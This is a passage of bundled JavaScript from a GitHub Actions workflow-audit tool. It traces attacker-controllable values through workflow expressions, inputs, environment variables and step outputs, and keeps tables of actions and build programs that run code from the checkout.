            return node.arguments.flatMap((argument) => ofNode(argument, scope, place)).map(onOneLine);
        if (name === 'format' || name === 'join' || name === 'fromjson' || name === 'case')
            return node.arguments.flatMap((argument) => ofNode(argument, scope, place));
        return nothing;
    }
    function ofWay(way, scope, at) {
        return hop(() => throughContext(way, scope, at)) ?? nothing;
    }
    /** One hop further; undefined, and told, where there were too many. */
    function hop(follow) {
        if (hops >= maxHops) {
            cut();
            return undefined;
        }
        hops++;
        const found = follow();
        hops--;
        return found;
    }
    function throughContext(way, scope, at) {
        const [context = '', name = paths/* anyPart */.iA, part = paths/* anyPart */.iA, output = paths/* anyPart */.iA] = way;
        const isOutput = part === 'outputs' || part === paths/* anyPart */.iA;
        const here = (message) => ({ file: scope.file.file, at, message });
        switch (context) {
            case 'github':
                return ofGitHub(way, scope, here);
            case 'env':
                return withStep(variable(name, scope), here(`\`env.${name}\` brings it`));
            case 'inputs':
                return ofInput(name, scope, here);
            case 'steps': {
                const run = scope.step?.siblings.get(name) ?? stepOfJob(scope, name);
                // `outcome` and `result` are words of the runner's.
                return run === undefined || !isOutput ? nothing : withStep(ofOutput(run, output), here(`\`${(0,paths/* showWay */.VR)(way)}\` brings it`));
            }
            case 'needs':
            case 'jobs': {
                const run = scope.workflow?.jobs.get(name);
                return run === undefined || !isOutput ? nothing : withStep(ofJobOutput(run, output), here(`\`${(0,paths/* showWay */.VR)(way)}\` brings it`));
            }
            case 'matrix':
                return scope.job === undefined ? nothing : withStep(ofMatrix(name, scope.job), here(`\`${(0,paths/* showWay */.VR)(way)}\` brings it`));
            default:
                return nothing;
        }
    }
    function stepOfJob({ job, step }, name) {
        if (step !== undefined || job === undefined)
            return undefined;
        return job.steps.find((run) => run.parent === undefined && run.step.id?.text.toLowerCase() === name);
    }
    function ofGitHub(way, scope, here) {
        const events = scope.job === undefined ? ['workflow_call'] : (0,graph_reach.eventsOf)(scope.job);
        const byName = new Map();
        for (const event of events) {
            const source = event === 'workflow_call' ? (0,sources/* sourceOfAnyEvent */.DU)(way) : (0,sources/* sourceAt */.Pf)(way, event);
            const code = (0,sources/* namesForeignCode */.EH)(way, event) || source?.ref === true;
            if (source === undefined && !code)
                continue;
            if (isTypedInput(way, scope))
                continue;
            const said = source ?? { name: (0,paths/* showWay */.VR)(way), writer: 'outsider', lines: false };
            const key = `${said.writer} ${source === undefined}`;
            const known = byName.get(key);
            if (known === undefined)
                byName.set(key, { source: { ...said, name: (0,paths/* showWay */.VR)(way) }, events: [event], code: code || source === undefined });
            else
                known.events.push(event);
        }
        return [...byName].map(([key, { source, events: bringing, code }]) => ({
            source: { name: source.name, writer: source.writer, lines: source.lines, text: !key.endsWith('true'), code, events: bringing },
            steps: [here(`\`${source.name}\` ${writerSays[source.writer]}`)],
        }));
    }
    function isTypedInput(way, { workflow }) {
        if (way[0] !== 'github' || way[2] !== 'inputs')
            return false;
        const input = workflow?.entry.dispatch.find(({ name }) => name.toLowerCase() === way[3]);
        return input !== undefined && isTyped(input);
    }
    function ofInput(name, scope, here) {
        const { file, step, workflow } = scope;
        if (file.document.kind === 'action')
            return ofActionInput(name, file, step, here);
        if (workflow === undefined)
            return nothing;
        const { caller } = workflow;
        if (caller !== undefined) {
            const declared = workflow.workflow.call?.inputs.find((input) => input.name.toLowerCase() === name);
            if (declared !== undefined && isTyped(declared))
                return nothing;
            return withStep(ofPair(pairNamed(caller.job.with, name), scopeOfJob(caller), `the job hands it over as \`${name}\``), here(`\`inputs.${name}\` brings it`));
        }
        const taints = [];
        const dispatch = workflow.workflow.dispatch.find((input) => input.name.toLowerCase() === name);
        if (workflow.workflow.triggers.some((trigger) => trigger.name === 'workflow_dispatch') &&
            (dispatch === undefined || !isTyped(dispatch)))
            taints.push(inputTaint(name, 'collaborator', ['workflow_dispatch'], here));
        const call = workflow.workflow.call?.inputs.find((input) => input.name.toLowerCase() === name);
        if (workflow.openCall && (call === undefined || !isTyped(call)))
            taints.push(inputTaint(name, 'caller', ['workflow_call'], here));
        return taints;
    }
    function inputTaint(name, writer, events, here) {
        return {
            source: { name: `inputs.${name}`, writer, lines: true, text: true, code: false, events },
            steps: [here(`\`inputs.${name}\` ${writerSays[writer]}`)],
        };
    }
    function ofActionInput(name, file, step, here) {
        const parent = step?.parent;
        const declared = file.document.kind === 'action' ? file.document.interface.inputs.find((input) => input.name.toLowerCase() === name) : undefined;
        const byDefault = (scope) => declared?.default === undefined ? nothing : withStep(ofScalar(declared.default, scope), here(`\`inputs.${name}\` brings it`));
        if (parent === undefined) {
            if (step === undefined || step.job !== undefined)
                return nothing;
            return [inputTaint(name, 'caller', ['workflow_call'], here), ...byDefault(scopeOfStep(step))];
        }
        const handed = pairNamed(parent.step.with, name);
        if (handed !== undefined)
            return withStep(ofPair(handed, scopeOfStep(parent), `the step hands it over as \`${name}\``), here(`\`inputs.${name}\` brings it`));
        return byDefault(scopeOfStep(parent));
    }
    function ofPair(pair, scope, message) {
        if (pair?.scalar === undefined)
            return nothing;
        return withStep(ofScalar(pair.scalar, scope), { file: scope.file.file, at: pair.scalar.at, message });
    }
    function ofVariable(name, run) {
        return variable(name.toLowerCase(), scopeOfStep(run));
    }
    /** Each once in each scope: a name that leads to itself brings nothing new. */
    function variable(name, scope) {
        const key = scope.step ?? scope.job ?? scope.workflow ?? scope.file;
        const known = variables.get(key) ?? new Map();
        variables.set(key, known);
        const before = known.get(name);
        if (before !== undefined)
            return before;
        known.set(name, nothing);
        const found = hop(() => few(valueOfVariable(name, scope)));
        if (found === undefined)
            known.delete(name);
        else
            known.set(name, found);
        return found ?? nothing;
    }
    /** The nearest that sets it counts; what a step wrote for later ones goes before the job's. */
    function valueOfVariable(name, scope) {
        const { step, job, workflow } = scope;
        if (name.includes(':') || name === '*')
            return ofPseudoName(name, scope);
        const near = ofStep(name, step);
        if (near !== undefined)
            return near;
        if (job !== undefined) {
            const written = ofWritten(name, job, step);
            if (written.length > 0)
                return written;
            const own = pairNamed(job.job.env, name);
            if (own !== undefined)
                return ofPair(own, scopeOfJob(job), `the variable \`${own.name}\` takes it`);
        }
        if (workflow !== undefined) {
            const own = pairNamed(workflow.workflow.env, name);
            const around = { file: workflow.file, workflow, job, step: undefined };
            if (own !== undefined)
                return ofPair(own, around, `the variable \`${own.name}\` takes it`);
        }
        return builtIn(name, scope);
    }
    /** What the step says, or one that it is part of. */
    function ofStep(name, step) {
        for (let run = step; run !== undefined; run = run.parent) {
            const own = pairNamed(run.step.env, name);
            if (own !== undefined)
                return ofPair(own, scopeOfStep(run), `the variable \`${own.name}\` takes it`);
            const input = name.startsWith('input_') ? pairNamed(run.step.with, name.slice('input_'.length)) : undefined;
            if (input !== undefined)
                return ofPair(input, scopeOfStep(run), `the input \`${input.name}\` takes it`);
        }
        return undefined;
    }
    /** Variables that the runner sets. */
    function builtIn(name, scope) {
        const way = builtInWays[name];
        if (way === undefined)
            return nothing;
        const at = scope.step?.step.map.at ?? { start: 0, end: 0 };
        return ofGitHub(way, scope, (message) => ({ file: scope.file.file, at: { start: at.start, end: at.start }, message }));
    }
    /** What earlier steps wrote to GITHUB_ENV under the name. */
    function ofWritten(name, job, before) {
        return few(variablesWritten(name, job, before).flatMap(({ run, script, write }) => withStep(ofParts(write.value, script, run), scriptStep(script, run, write.at, `the step writes it to GITHUB_ENV as \`${write.name}\``))));
    }
    /** What is no variable of the environment, but read as one: a file, or all variables of the step. */
    function ofPseudoName(name, scope) {
        const { step, job } = scope;
        if (step === undefined)
            return nothing;
        if (name === '*')
            return few([...step.step.env, ...(job?.job.env ?? [])].flatMap((pair) => variable(pair.name.toLowerCase(), scope)));
        return name.startsWith('file:') ? ofFile(name.slice('file:'.length), step) : nothing;
    }
    function ofFile(path, step) {
        const own = fileWritten(path, step).flatMap(({ run, script, write }) => withStep(ofParts(write.value, script, run), scriptStep(script, run, write.at, `the step writes it to the file \`${write.path}\``)).map((taint) => (write.name === undefined ? taint : { ...taint, inLine: true })));
        if (own.length > 0)
            return few(own);
        return few(filesBrought(path, step, cut).flatMap(({ path: there, upload, taken }) => withStep(withStep(variable((0,taint_parts/* fileName */.Md)(there), scopeOfStep(upload)), stepPlace(upload, 'a job puts the file up')), stepPlace(taken, 'this job takes it'))));
    }
    /** Each output once: a chain of steps would ask for the first one as often as it is long. */
    function ofOutput(run, output) {
        let known = outputs.get(run);
        if (known === undefined) {
            known = new Map();
            outputs.set(run, known);
        }
        const before = known.get(output);
        if (before !== undefined)
            return before;
        // One that leads to itself brings nothing new.
        known.set(output, nothing);
        const found = outputOf(run, output);
        known.set(output, found);
        return found;
    }
    function outputOf(run, output) {
        const { step, inner } = run;
        const script = (0,step_script/* stepScript */.M)(step);
        if (script !== undefined)
            return ofScriptOutput(run, script, output);
        if (step.run !== undefined)
            return nothing;
        if (inner?.document.kind === 'action') {
            const declared = inner.document.interface.outputs.filter(({ name }) => output === paths/* anyPart */.iA || name.toLowerCase() === output);
            // Outputs of a composite action are made of those of its steps, which an inner step stands for here.
            const [any] = run.inside.values();
            if (any === undefined)
                return nothing;
            const scope = { ...scopeOfStep(any), step: { ...any, step: { ...any.step, env: [] } } };
            return few(declared.flatMap(({ name, value }) => value === undefined
                ? []
                : withStep(ofScalar(value, scope), { file: inner.file, at: value.at, message: `the action gives it out as \`${name}\`` })));
        }
        const target = step.uses?.target;
        if (target?.kind !== 'repository')
            return nothing;
        return ofKnownOutput(run, target.slug, output);
    }
    function ofScriptOutput(run, { scalar, facts }, output) {
        const writes = facts.writes.filter(({ file, name }) => file === 'output' && (output === paths/* anyPart */.iA || name === undefined || name.toLowerCase() === output));
        return few(writes.flatMap((write) => {
            const taints = ofParts(write.value, scalar, run);
            // One line stays among those of its own output.
            const inside = output === paths/* anyPart */.iA || (write.between ?? output).toLowerCase() === output;
            return withStep(inside ? taints : taints.filter(({ source }) => mayEndAtMark(source)), scriptStep(scalar, run, write.at, `the step gives it out as \`${write.name ?? output}\``));
        }));
    }
    function ofKnownOutput(run, slug, output) {
        const at = run.step.uses?.scalar.at ?? run.step.map.at;
        const step = { file: run.file.file, at, message: '' };
        return few(carriedBy(run.step, slug, output).flatMap((carried) => {
            if (carried === 'inputs') {
                const taken = run.step.with.flatMap((pair) => ofPair(pair, scopeOfStep(run), `the step takes it as \`${pair.name}\``));
                return isInert(run.step, slug, output) ? taken.map((taint) => ({ ...onOneLine(taint), inert: true })) : taken;
            }
            return carried === 'branch'
                ? ofGitHub(['github', 'head_ref'], scopeOfStep(run), (message) => ({ ...step, message }))
                : reading(carried, run, step);
        }));
    }
    function ofJobOutput(run, output) {
        const called = run.calls;
        if (called !== undefined) {
            const declared = (called.workflow.call?.outputs ?? []).filter(({ name }) => output === paths/* anyPart */.iA || name.toLowerCase() === output);
            const scope = { file: called.file, workflow: called, job: undefined, step: undefined };
            return few(declared.flatMap(({ name, value }) => value === undefined
                ? []
                : withStep(ofScalar(value, scope), {
                    file: called.file.file,
                    at: value.at,
                    message: `the workflow gives it out as \`${name}\``,
                })));
        }
        const pairs = run.job.outputs.filter(({ name }) => output === paths/* anyPart */.iA || name.toLowerCase() === output);
        return few(pairs.flatMap((pair) => ofPair(pair, scopeOfJob(run), `the job gives it out as \`${pair.name}\``)));
    }
    function ofMatrix(name, job) {
        const { matrix } = job.job;
        if (matrix === undefined)
            return nothing;
        const nodes = matrix.dimensions
            .filter((pair) => name === paths/* anyPart */.iA || pair.name.toLowerCase() === name)
            .map(({ value }) => value);
        if (matrix.include !== undefined)
            nodes.push(...included(matrix.include, name));
        if (matrix.value.kind === 'scalar')
            nodes.push(matrix.value);
        return few(nodes.flatMap((node) => scalarsBelow(node).flatMap((scalar) => withStep(ofScalar(scalar, { ...scopeOfJob(job), step: undefined }), {
            file: job.within.file.file,
            at: scalar.at,
            message: 'the matrix takes it',
        }))));
    }
    function ofParts(parts, script, run) {
        if ((0,taint_parts/* isEmpty */.Im)(parts))
            return nothing;
        const scope = scopeOfStep(run);
        const found = [];
        for (const name of parts.variables)
            found.push(...ofVariable(name, run));
        if (parts.expressions.size > 0) {
            const all = expressionsOf(script);
            for (const index of parts.expressions) {
                const one = all[index];
                const tree = one === undefined ? undefined : (0,parse/* parseExpression */.YK)(one.text);
                if (one !== undefined && tree !== undefined && tree.kind !== 'mistake')
                    found.push(...ofTree(tree, script, one.inner.start, scope));
            }
        }
        const step = { file: run.file.file, at: script.at, message: '' };
        for (const read of parts.reads)
            found.push(...reading(read, run, step));
        for (const way of parts.ways)
            found.push(...ofWayInScript(way.split('.'), run, step));
        return few(found);
    }
    /** A way through the event, or through an answer of GitHub's API, that a script goes itself. */
    function ofWayInScript(way, run, step) {
        const json = way.at(-1) === taint_parts/* jsonMark */.un;
        const plain = json ? way.slice(0, -1) : way;
        const found = plain[0] === taint_parts/* answerWay */.W7 ? answerHolds(plain.slice(1)).flatMap((read) => reading(read, run, step)) : ofWhole(plain, run, step);
        return json ? found.map(onOneLine) : found;
    }
    /** What is taken out of a list that a text was split into is as good as the text. */
    function ofWhole(way, run, step) {
        const found = ofGitHub(way, scopeOfStep(run), (message) => ({ ...step, message }));
        return found.length === 0 && way.at(-1) === paths/* anyPart */.iA ? ofWhole(way.slice(0, -1), run, step) : found;
    }
    function reading(read, run, step) {
        if (read === 'files' || read === 'listing')
            return foreign(run);
        if (read === 'line-of-names')
            return reading('names', run, step).map(onOneLine);
        // A line of its own begins with the commit's id.
        if (read === 'subjects')
            return reading('history', run, step).map((taint) => ({ ...onOneLine(taint), inLine: true }));
        return lookedUp(read, run, step);
    }
    /** What of an outsider's a run finds where it looks. */
    function lookedUp(read, run, step) {
        const files = /^(?:head|head-branch|conversation|titles)$/.test(read) ? nothing : foreign(run);
        // What is checked out has a branch, and that is all of it that this gives.
        if (files.length > 0)
            return read === 'branch'
                ? files.map((taint) => ({ ...taint, source: { ...taint.source, name: readingSays['head-branch'].name, lines: false } }))
                : files;
        const scope = scopeOfStep(run);
        const here = (message) => ({ ...step, message });
        // Of the repository's own branch it is what the event of a push says.
        if (read === 'branch')
            return ofGitHub(['github', 'ref_name'], scope, here);
        if (read === 'history')
            return ofGitHub(['github', 'event', 'head_commit', 'message'], scope, here);
        const events = run.job === undefined ? [] : (0,graph_reach.eventsOf)(run.job);
        const bringing = events.filter((event) => brings(event, read));
        const isText = read === 'conversation' || read === 'titles';
        const isHead = read === 'head' || read === 'head-branch';
        const stored = bringing.length === 0 && isText ? events.filter((event) => lookupEvents.has(event)) : [];
        if (bringing.length === 0 && stored.length === 0)
            return nothing;
        const { name, lines } = readingSays[read];
        const when = stored.length === 0 ? { events: bringing } : { events: stored, stored: true };
        return [
            {
                source: { name, writer: 'outsider', lines, text: !isHead, code: isHead, ...when },
                steps: [{ ...step, message: `${name} come from whoever opened it` }],
            },
        ];
    }
}
/** Whether an event comes with what an outsider wrote there: of a pull request alone, the names of its files. */
function brings(event, read) {
    if (!conversationEvents.test(event))
        return false;
    return read !== 'names' || event.startsWith('pull_request') || event === 'issue_comment';
}
const writerSays = {
    outsider: 'is written by whoever sets the workflow off',
    merged: 'is written by whoever has a change merged',
    collaborator: 'is written by whoever may push or start workflows',
    caller: 'is whatever the caller hands over',
};
function scriptStep(script, run, at, message) {
    return { file: run.file.file, at: (0,scalar_text/* scalarText */.w)(run.file.file.text, script).spanOf(at.start, at.end), message };
}
/** Of what an answer or event has: numbers, ids, states, and addresses that GitHub makes. */
const plainKeys = /^(?:number|id|node_id|sha|state|merged|draft|locked|length|count|total_count|\w{1,40}_(?:id|at|url|sha|count))$/i;
function stepPlace(run, message) {
    return { file: run.file.file, at: run.step.uses?.scalar.at ?? run.step.map.at, message };
}
/** What `include` says of a name of the matrix; all of what an expression gives. */
function included(include, name) {
    if (include.kind !== 'list')
        return [include];
    return include.items.flatMap((item) => item.kind === 'map' && name !== paths/* anyPart */.iA
        ? item.entries.filter((entry) => entry.name.toLowerCase() === name).map(({ value }) => value)
        : [item]);
}
/** Names of variables and inputs mean the same in any case. */
function pairNamed(pairs, name) {
    return pairs.find((pair) => pair.name.toLowerCase() === name);
}
function isTyped({ type }) {
    return type !== undefined && /^(?:boolean|number|choice|environment)$/.test(type.text);
}
function scalarsBelow(node) {
    const found = [];
    const open = [node];
    for (let next = open.pop(); next !== undefined && found.length < 1000; next = open.pop()) {
        if (next.kind === 'scalar') {
            if (next.text.includes('${{'))
                found.push(next);
        }
        else
            open.push(...(next.kind === 'list' ? next.items : next.entries.map(({ value }) => value)));
    }
    return found;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/code-inputs.js
// Inputs of actions that are run as code, and what reads them. Facts: what the actions are known to do, November 2026; not held row by row against their documentation.
const table = {
    'actions/github-script': { script: 'javascript' },
    'azure/cli': { inlinescript: 'shell' },
    'azure/powershell': { inlinescript: 'powershell' },
    'azure/pgcli': { inlinescript: 'shell' },
    'appleboy/ssh-action': { script: 'shell' },
    'fifsky/ssh-action': { command: 'shell' },
    'garygrossgarten/github-action-ssh': { command: 'shell' },
    'nick-fields/retry': { command: 'shell', on_retry_command: 'shell' },
    'nick-invision/retry': { command: 'shell', on_retry_command: 'shell' },
    'wandalen/wretry.action': { command: 'shell' },
    'jannekem/run-python-script-action': { script: 'python' },
    'amadevus/pwsh-script': { script: 'powershell' },
    // Its `command` is given to wrangler without a shell: src/wranglerAction.ts, looked up 2026-11-30.
    'cloudflare/wrangler-action': { precommands: 'shell', postcommands: 'shell' },
    'addnab/docker-run-action': { run: 'shell' },
    'devcontainers/ci': { runcmd: 'shell' },
    'coactions/setup-xvfb': { run: 'shell' },
    'gabrielbb/xvfb-action': { run: 'shell' },
    'reactivecircus/android-emulator-runner': { script: 'shell', 'pre-emulator-launch-script': 'shell' },
    'cypress-io/github-action': { build: 'shell', start: 'shell', command: 'shell', 'wait-on': 'other' },
    'mikefarah/yq': { cmd: 'shell' },
    'vmactions/freebsd-vm': { run: 'shell', prepare: 'shell' },
    'vmactions/openbsd-vm': { run: 'shell', prepare: 'shell' },
    'cross-platform-actions/action': { run: 'shell' },
    'uraimo/run-on-arch-action': { run: 'shell', install: 'shell' },
    'sergeysova/jq-action': { cmd: 'shell' },
    'borales/actions-yarn': { cmd: 'shell' },
    'cardinalby/js-eval-action': { expression: 'javascript' },
    'devorbitus/yq-action-output': { cmd: 'shell' },
    'skx/github-action-build': { builder: 'shell' },
    'lorenzopant/action-run': { run: 'shell' },
    'knicknic/os-specific-run': { linux: 'shell', windows: 'shell', macos: 'shell' },
    'mathiasvr/command-output': { run: 'shell' },
    'matlab-actions/run-command': { command: 'other' },
    'smorimoto/xvfb-action': { command: 'shell' },
    'workflow/nix-shell-action': { script: 'shell' },
    'd3rhase/ssh-command-action': { command: 'shell' },
    'tj-actions/pg-dump': { options: 'shell' },
    'roots/issue-closer-action': { 'issue-pattern': 'other', 'issue-close-message': 'javascript', 'pr-close-message': 'javascript' },
};
/** Whether an action has inputs that are run as code. */
function takesCode(slug) {
    return table[slug] !== undefined;
}
/** Language of an input, by the action's name and the input's, both in small letters; undefined for what is only text. */
function codeInput(slug, input) {
    const found = table[slug];
    return found !== undefined && Object.hasOwn(found, input) ? found[input] : undefined;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/executes.js
// What runs code out of the checkout: programs that build, test and install, and actions that do so.


/** Programs that run code of the project whatever they are told. */
const always = new Set('make gmake ninja just rake mage bazel bazelisk gradle gradlew mvn mvnw ant sbt lein npx pnpx bunx yarn jlpm pnpm tox nox pytest pre-commit rspec phpunit jest vitest mocha eslint webpack vite rollup gulp grunt lerna nx turbo tsx ts-node molecule earthly ansible-playbook terragrunt pulumi cmake ctest xcodebuild msbuild mix rebar3 stack cabal Rscript julia autoreconf ansible-test hatch nosetests fastlane pod sphinx-build mkdocs jekyll hugo uvx storybook playwright cypress ng next rails mypy sonar-scanner pysonar'.split(' '));
/** Programs that do so with one of these verbs, or pairs of them, first. */
const verbs = {
    npm: 'install i ci add test t run run-script start rebuild exec pack publish version it install-test prune update'.split(' '),
    bun: 'install i run test add x build'.split(' '),
    cargo: 'build b test t run r check c clippy bench install nextest publish package doc fmt make xtask'.split(' '),
    go: 'test run generate build install tool'.split(' '),
    pip: ['install', 'wheel', 'download'],
    pip3: ['install', 'wheel', 'download'],
    uv: 'run sync pip build lock'.split(' '),
    poetry: 'install run build lock'.split(' '),
    pdm: 'install run build'.split(' '),
    pipenv: 'install run sync'.split(' '),
    bundle: 'install exec'.split(' '),
    gem: ['build', 'install'],
    composer: 'install update run run-script test exec'.split(' '),
    dotnet: 'build test run restore publish pack tool msbuild'.split(' '),
    swift: ['build', 'test', 'run', 'package'],
    flutter: 'pub build test run'.split(' '),
    dart: ['run', 'test', 'pub', 'compile'],
    deno: 'run test task install bench'.split(' '),
    docker: [
        'build',
        'buildx build',
        'buildx bake',
        'builder build',
        'image build',
        'compose build',
        'compose up',
        'compose run',
        'compose exec',
    ],
    'docker-compose': ['build', 'up', 'run'],
    podman: ['build', 'compose build', 'compose up', 'compose run'],
    buildah: ['build', 'bud'],
    terraform: 'init plan apply validate test'.split(' '),
    tofu: ['init', 'plan', 'apply'],
    nix: 'build develop run shell flake'.split(' '),
    'nix-build': [''],
    helm: ['dependency', 'install', 'upgrade'],
    zig: ['build', 'run', 'test'],
    conda: ['build', 'env'],
};
/** Programs whose first plain argument is a file that they run. */
const interpreters = new Set([
    'bash',
    'sh',
    'zsh',
    'dash',
    'python',
    'python3',
    'pypy3',
    'node',
    'ruby',
    'perl',
    'php',
    'source',
    '.',
    'pwsh',
    'deno',
    'bun',
    'lua',
]);
/** Modules of Python that run code of the project. */
const modules = /^(?:pytest|tox|nox|build|pip|unittest|mypy|sphinx|pre_commit|hatch|poetry|setuptools)/;
/**
 * What of the checkout a command runs, as it is written; undefined where it runs nothing of it.
 * @param script that it stands in, as `namingFolders` gives it.
 */
function executedBy({ name, words }, script) {
    const [first, ...rest] = words;
    if (first === undefined)
        return undefined;
    const args = rest.map((word) => (0,taint_parts/* belowWorkspace */.tj)(valueIn(word, script)));
    const shown = [first, ...rest.slice(0, 2)]
        .map(({ text }) => text)
        .join(' ')
        .slice(0, 80);
    const plain = args.filter((arg) => !arg.startsWith('-') && !arg.startsWith('+'));
    if (args.some((arg) => arg === '--version' || arg === '--help' || arg === '-v') && args.length === 1)
        return undefined;
    const path = (0,taint_parts/* belowWorkspace */.tj)(first.literal ?? valueIn(first, script));
    if (/^\.{1,2}\/|^(?:[\w.-]+\/)+[\w.-]+$/.test(path) && !path.startsWith('/'))
        return shown;
    if (temporary.test(path))
        return shown;
    if (interpreters.has(name))
        return interpreted(name, args, plain) ? shown : undefined;
    if (always.has(name))
        return isQuiet(name, (0,program_words/* programWords */.O)(name, args)) ? undefined : shown;
    const own = verbs[name];
    const asked = (0,program_words/* programWords */.O)(name, args);
    // Of some verbs only those below them run anything.
    const two = asked.slice(0, 2).join(' ');
    if (own === undefined || !own.some((verb) => verb === asked[0] || verb === two || verb === ''))
        return undefined;
    if ((name === 'npm' || name === 'bun') && /^(?:install|i|ci|add|update|prune)$/.test(asked[0] ?? '') && args.includes('--ignore-scripts'))
        return undefined;
    if (/^(?:npm|pip3?|gem|go)$/.test(name) && installsByName(name, asked, args))
        return undefined;
    return shown;
}
/** A script in which expressions for the runner's folders are the shell's variables for them, every letter in its place. */
function namingFolders(script) {
    return script.replace(/\$\{\{\s{0,5}(?:github\.workspace|runner\.temp)\s{0,5}\}\}/gi, (way) => (/temp/i.test(way) ? '$RUNNER_TEMP' : '$GITHUB_WORKSPACE').padEnd(way.length, '/'));
}
/** Files beside the workspace into which jobs unpack what they download. */
const temporary = /^(?:\$\{?(?:env:)?RUNNER_TEMP\}?|\/tmp)["']?\/+/i;
/** Whether a path, or a command that runs what lies at one, is of the runner's folder for temporary files, or of the system's. */
function isTemporary(text) {
    return temporary.test(namingFolders(text).replace(/^(?:(?:bash|sh|python3?|node|source|\.)\s)?["']?/, ''));
}
/** What a word stands for; one with an expression in it has lost that to a mask. */
function valueIn({ value, start, end }, script) {
    if (!value.includes('XXXX'))
        return value;
    let found = value;
    for (const [name] of script.slice(start, end).matchAll(/\$(?:GITHUB_WORKSPACE|RUNNER_TEMP)\/{4,}?(?=\/?(?:[^/]|$))/g))
        found = found.replace('X'.repeat(name.length), name.replace(/\/+$/, ''));
    return found;
}
/** Whether a package is installed by its name, and nothing of the checkout. */
function installsByName(name, [verb, ...targets], args) {
    if (verb !== 'install' && verb !== 'i' && verb !== 'add')
        return false;
    if (targets.length === 0)
        return false;
    if (name === 'npm')
        return args.some((arg) => arg === '-g' || arg === '--global');
    if (name === 'go')
        return targets.every((target) => target.includes('@'));
    if (args.some((arg) => /^(?:-r|-e|-c|--requirement|--editable|--constraint)/.test(arg)))
        return false;
    return targets.every((target) => /^(?:git\+|hg\+|svn\+|bzr\+)?https?:/.test(target) || !/^\.|\/|\.(?:whl|txt|gem)$|^\$/.test(target));
}
function isQuiet(name, plain) {
    if (name === 'yarn' || name === 'jlpm' || name === 'pnpm')
        return /^(?:config|cache|--version|why|info|store|set)$/.test(plain[0] ?? '');
    return name === 'nx' || name === 'next' || name === 'ng' ? plain.length === 0 : false;
}
/** A module of the checkout that JavaScript loads; of a JSON file only the values come. */
const loadsCode = /\b(?:require|import)\(\s{0,20}(["'`])\.{1,2}\/(?![^"'`\n]{0,200}\.json\1)[^"'`\n]{1,200}\1/;
/** Code in which a module of the workspace is named by its path from there on. */
function belowHere(code) {
    return code.replace(/(["'`])\$\{?GITHUB_WORKSPACE\}?\/+/g, '$1./');
}
/** Code that stands in the arguments themselves, empty where it is not JavaScript; undefined where an interpreter is given a file. */
function inline(name, args) {
    const script = name === 'node' || name === 'bun';
    const at = args.findIndex((arg) => /^-[a-z]*[ce]$/.test(arg) || arg === '--eval' || (script && /^(?:-p|-pe|--print)$/.test(arg)));
    if (at < 0)
        return undefined;
    return script ? (args[at + 1] ?? '') : '';
}
function interpreted(name, args, plain) {
    if (name.startsWith('python') || name.startsWith('pypy')) {
        const module = args[args.indexOf('-m') + 1];
        if (args.includes('-m'))
            return module !== undefined && modules.test(module);
        if (args.includes('-c'))
            return false;
    }
    const code = inline(name, args);
    if (code !== undefined)
        return code !== '' && loadsCode.test(belowHere(code));
    const [file] = plain;
    return file !== undefined && file !== '-' && (temporary.test(file) || !/^[/$]|^https?:/.test(file));
}
/** Actions that install, build or test what is checked out; some only when an input says so. */
const executes_actions = {
    'docker/build-push-action': ['context'],
    'docker/bake-action': 'always',
    'pre-commit/action': 'always',
    'ruby/setup-ruby': ['bundler-cache'],
    'golangci/golangci-lint-action': 'always',
    'gradle/gradle-build-action': ['arguments'],
    'gradle/actions/setup-gradle': ['arguments'],
    'actions-rs/cargo': 'always',
    'super-linter/super-linter': 'always',
    'github/super-linter': 'always',
    'oxsecurity/megalinter': 'always',
    'cypress-io/github-action': 'always',
    'pypa/cibuildwheel': 'always',
    'withastro/action': 'always',
    'pnpm/action-setup': ['run_install'],
    'bahmutov/npm-install': 'always',
    'preactjs/compressed-size-action': 'always',
    'andresz1/size-limit-action': 'always',
    'goreleaser/goreleaser-action': 'always',
    'wagoid/commitlint-github-action': 'always',
    'actions/jekyll-build-pages': 'always',
    'reviewdog/action-eslint': 'always',
    'chromaui/action': 'always',
    'borales/actions-yarn': 'always',
    'julia-actions/julia-runtest': 'always',
    'julia-actions/julia-buildpkg': 'always',
    'r-lib/actions/check-r-package': 'always',
    'r-lib/actions/setup-r-dependencies': 'always',
    'taiki-e/upload-rust-binary-action': 'always',
    'clechasseur/rs-cargo': 'always',
    'cachix/install-nix-action': [],
    'devcontainers/ci': 'always',
    'sbt/setup-sbt': [],
    'moonrepo/setup-rust': [],
    'artiomtr/jest-coverage-report-action': 'always',
    // A `sonar-project.properties` names the server that is told the token, and the program that reads JavaScript.
    'sonarsource/sonarqube-scan-action': 'always',
    'sonarsource/sonarcloud-github-action': 'always',
    'codecov/bundle-analyzer': [],
    'lhotari/gh-actions-clean-docker-images-action': [],
};
/** Whether an action of somebody else's runs code of the checkout. */
function executedByAction(step) {
    const target = step.uses?.target;
    if (target?.kind !== 'repository')
        return false;
    const when = executes_actions[target.slug] ?? executes_actions[`${target.slug}/${target.path}`];
    if (when === 'always')
        return true;
    return (when ?? []).some((input) => {
        const value = step.with.find(({ name }) => name.toLowerCase() === input)?.scalar?.text.trim();
        return value !== undefined && value !== '' && value !== 'false' && !/^https?:/.test(value);
    });
}

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/facts/releases.js
var releases = __webpack_require__(9056);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/facts/checkout.js
// Releases of actions/checkout that refuse a fork's code where it would run with the repository's rights.
//
// Source: https://github.blog/changelog/2026-06-18-safer-pull_request_target-defaults-for-github-actions-checkout, by which floating tags
// of supported major versions are moved and all other pins are not; src/unsafe-pr-checkout-helper.ts and action.yml of its tags, looked up
// 2026-11-30.

/** First release of each major version that refuses: those of 2 to 6 are backports, of version 1 there is none. */
const firstMinor = { 2: 8, 3: 7, 4: 4, 5: 1, 6: 1 };
/**
 * Whether the release refuses: known, `said` by the comment behind a commit alone, or `moved` where its tag was moved to one on github.com
 * in July 2026, which a server of one's own may not have done.
 * @param comment version in the comment beside it.
 */
function refusesForks(use, comment) {
    if (use.slug !== 'actions/checkout')
        return undefined;
    if (/^v[2-6]$/.test(use.ref ?? ''))
        return 'moved';
    const { version: [major, minor] = [], proved } = (0,releases.releaseOf)(use, comment) ?? {};
    const first = major === undefined ? undefined : firstMinor[major];
    const refuses = (major !== undefined && major >= 7) || (first !== undefined && minor !== undefined && minor >= first);
    return refuses ? (proved === true ? 'known' : 'said') : undefined;
}

